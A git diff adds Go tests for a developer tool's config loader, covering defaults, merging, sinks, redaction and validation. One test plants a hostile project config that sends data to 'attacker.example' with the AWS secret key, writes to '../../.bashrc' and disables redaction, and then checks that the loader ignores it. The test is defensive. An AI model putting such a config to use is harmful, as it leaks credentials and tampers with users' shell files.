@@ -0,0 +1,160 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestLoad(t *testing.T) {
+	// Run from an empty project directory with an isolated user config dir
+	setup := func(t *testing.T) string {
+		t.Helper()
+		xdg := t.TempDir()
+		t.Setenv("XDG_CONFIG_HOME", xdg)
+		t.Setenv(EnvAddr, "")
+		t.Setenv(EnvPort, "")
+		t.Chdir(t.TempDir())
+		require.NoError(t, os.MkdirAll(filepath.Join(xdg, "cdev"), 0755))
+		return filepath.Join(xdg, "cdev")
+	}
+
+	t.Run("defaults bind to loopback", func(t *testing.T) {
+		setup(t)
+
+		cfg, err := Load()
+		require.NoError(t, err)
+		assert.Equal(t, "127.0.0.1:32123", cfg.ListenAddr())
+	})
+
+	t.Run("user config file", func(t *testing.T) {
+		dir := setup(t)
+		require.NoError(t, os.WriteFile(filepath.Join(dir, "config.yaml"), []byte("port: 4000\n"), 0644))
+
+		cfg, err := Load()
+		require.NoError(t, err)
+		assert.Equal(t, "127.0.0.1:4000", cfg.ListenAddr())
+	})
+
+	t.Run("project config overrides user config", func(t *testing.T) {
+		dir := setup(t)
+		require.NoError(t, os.WriteFile(filepath.Join(dir, "config.yaml"), []byte("port: 4000\n"), 0644))
+		require.NoError(t, os.MkdirAll(ProjectDir, 0755))
+		require.NoError(t, os.WriteFile(filepath.Join(ProjectDir, "config.yaml"), []byte("port: 5000\n"), 0644))
+
+		cfg, err := Load()
+		require.NoError(t, err)
+		assert.Equal(t, 5000, cfg.Port)
+	})
+
+	t.Run("security settings are only read from the user config", func(t *testing.T) {
+		dir := setup(t)
+		user := "allowed_origins: [chrome-extension://mine]\nredact:\n  patterns:\n    - name: user\n      pattern: u\nsinks:\n  http:\n    url: http://localhost:11434/v1/chat/completions\n"
+		require.NoError(t, os.WriteFile(filepath.Join(dir, "config.yaml"), []byte(user), 0644))
+		require.NoError(t, os.MkdirAll(ProjectDir, 0755))
+		project := "addr: 0.0.0.0\nport: 5000\nallowed_origins: [chrome-extension://theirs]\n" +
+			"redact:\n  disabled: true\n  ignore: [aws]\n  patterns:\n    - name: project\n      pattern: p\n" +
+			"sinks:\n  default: file\n  file: ../../.bashrc\n  http:\n    url: https://attacker.example/v1\n    api_key_env: AWS_SECRET_ACCESS_KEY\n    model: llama3\n"
+		require.NoError(t, os.WriteFile(filepath.Join(ProjectDir, "config.yaml"), []byte(project), 0644))
+
+		cfg, err := Load()
+		require.Error(t, err)
+		assert.Equal(t, filepath.Join(ProjectDir, "config.yaml")+": addr, allowed_origins, redact.disabled, redact.ignore, sinks.default, sinks.file, sinks.http.url, sinks.http.api_key_env ignored, only read from the user config", err.Error())
+		assert.Equal(t, "127.0.0.1:5000", cfg.ListenAddr())
+		assert.Equal(t, []string{"chrome-extension://mine"}, cfg.AllowedOrigins)
+		assert.Equal(t, Redact{Patterns: []RedactPattern{{Name: "user", Pattern: "u"}, {Name: "project", Pattern: "p"}}}, cfg.Redact)
+		assert.Equal(t, HTTPSink{URL: "http://localhost:11434/v1/chat/completions", Model: "llama3"}, cfg.Sinks.HTTP)
+		assert.Equal(t, "clipboard", cfg.Sinks.Default)
+		assert.Equal(t, "cdev-prompt.md", cfg.Sinks.File)
+	})
+
+	t.Run("sink settings are merged across files", func(t *testing.T) {
+		dir := setup(t)
+		user := "sinks:\n  default: http\n  http:\n    url: http://localhost:11434/v1/chat/completions\n"
+		require.NoError(t, os.WriteFile(filepath.Join(dir, "config.yaml"), []byte(user), 0644))
+		require.NoError(t, os.MkdirAll(ProjectDir, 0755))
+		require.NoError(t, os.WriteFile(filepath.Join(ProjectDir, "config.yaml"), []byte("sinks:\n  http:\n    model: llama3\n"), 0644))
+
+		cfg, err := Load()
+		require.NoError(t, err)
+		assert.Equal(t, "http", cfg.Sinks.Default)
+		assert.Equal(t, "cdev-prompt.md", cfg.Sinks.File)
+		assert.Equal(t, "llama3", cfg.Sinks.HTTP.Model)
+		assert.Equal(t, "http://localhost:11434/v1/chat/completions", cfg.Sinks.HTTP.URL)
+	})
+
+	t.Run("budget keeps the defaults it does not set", func(t *testing.T) {
+		dir := setup(t)
+		require.NoError(t, os.WriteFile(filepath.Join(dir, "config.yaml"), []byte("budget:\n  limit: 32000\n  block: true\n"), 0644))
+
+		cfg, err := Load()
+		require.NoError(t, err)
+		assert.Equal(t, Budget{Model: "gpt-4o", Limit: 32000, Warn: 0.8, Block: true}, cfg.Budget)
+	})
+
+	t.Run("redaction patterns", func(t *testing.T) {
+		dir := setup(t)
+		user := "redact:\n  ignore: [high-entropy]\n  patterns:\n    - name: internal-host\n      pattern: '[a-z]+\\.corp\\.example'\n"
+		require.NoError(t, os.WriteFile(filepath.Join(dir, "config.yaml"), []byte(user), 0644))
+
+		cfg, err := Load()
+		require.NoError(t, err)
+		assert.Equal(t, Redact{
+			Ignore:   []string{"high-entropy"},
+			Patterns: []RedactPattern{{Name: "internal-host", Pattern: `[a-z]+\.corp\.example`}},
+		}, cfg.Redact)
+	})
+
+	t.Run("files", func(t *testing.T) {
+		dir := setup(t)
+		require.NoError(t, os.WriteFile(filepath.Join(dir, "config.yaml"), []byte("files:\n  max_bytes: 1048576\n  encodings: [shift_jis, windows-1252]\n"), 0644))
+
+		cfg, err := Load()
+		require.NoError(t, err)
+		assert.Equal(t, Files{MaxBytes: 1 << 20, Encodings: []string{"shift_jis", "windows-1252"}}, cfg.Files)
+	})
+
+	t.Run("environment overrides files", func(t *testing.T) {
+		dir := setup(t)
+		require.NoError(t, os.WriteFile(filepath.Join(dir, "config.yaml"), []byte("addr: 0.0.0.0\nport: 4000\n"), 0644))
+		t.Setenv(EnvAddr, "::1")
+		t.Setenv(EnvPort, "6000")
+
+		cfg, err := Load()
+		require.NoError(t, err)
+		assert.Equal(t, "[::1]:6000", cfg.ListenAddr())
+	})
+
+	t.Run("invalid values are reported", func(t *testing.T) {
+		dir := setup(t)
+		require.NoError(t, os.WriteFile(filepath.Join(dir, "config.yaml"), []byte("port: [\n"), 0644))
+		t.Setenv(EnvPort, "http")
+
+		cfg, err := Load()
+		require.Error(t, err)
+		assert.Contains(t, err.Error(), "config.yaml")
+		assert.Contains(t, err.Error(), EnvPort)
+		assert.Equal(t, DefaultPort, cfg.Port)
+	})
+
+	t.Run("port 0 in the environment is reported", func(t *testing.T) {
+		setup(t)
+		t.Setenv(EnvPort, "0")
+
+		cfg, err := Load()
+		require.Error(t, err)
+		assert.Equal(t, EnvPort+`: invalid port "0"`, err.Error())
+		assert.Equal(t, DefaultPort, cfg.Port)
+	})
+}
+
+func TestValidate(t *testing.T) {
+	assert.NoError(t, Default().Validate())
+	assert.NoError(t, Config{Addr: "localhost", Port: 1}.Validate())
+	assert.Error(t, Config{Addr: "127.0.0.1", Port: 0}.Validate())
+	assert.Error(t, Config{Addr: "127.0.0.1", Port: 70000}.Validate())
+	assert.Error(t, Config{Addr: "not an ip", Port: 80}.Validate())
+}